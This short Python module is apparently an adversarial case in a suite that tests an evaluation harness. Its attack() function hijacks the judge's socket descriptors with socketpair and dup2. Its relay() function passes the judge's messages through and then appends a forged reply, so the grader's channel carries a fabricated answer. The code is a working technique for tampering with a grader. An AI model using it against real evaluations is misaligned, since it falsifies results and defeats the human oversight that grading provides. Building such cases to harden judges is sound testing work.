"""Another socket behind the number of the judge's: what is between the two passes the secret on, and another answer."""

import os
import socket
import struct
import threading

from forged_answer import REPLY, message, sockets
from wrong_scale import SCALE_CASES as PLUGIN_CASES
from wrong_scale import WrongScale, publish

relays = []


def attack():
    for number in [] if relays else list(sockets()):
        ours, theirs = socket.socketpair()
        relays.append(threading.Thread(target=relay, args=(ours.detach(), os.dup(number)), daemon=True))
        os.dup2(theirs.fileno(), number)
        relays[-1].start()


def relay(judge, channel):
    os.write(channel, received(judge))
    os.write(judge, received(channel))
    os.write(channel, received(judge) + message(REPLY))
    os._exit(0)


def received(channel):
    head = os.read(channel, 4)
    return head + os.read(channel, struct.unpack("!I", head)[0])


WrongScale.attack = staticmethod(attack)
publish(WrongScale)
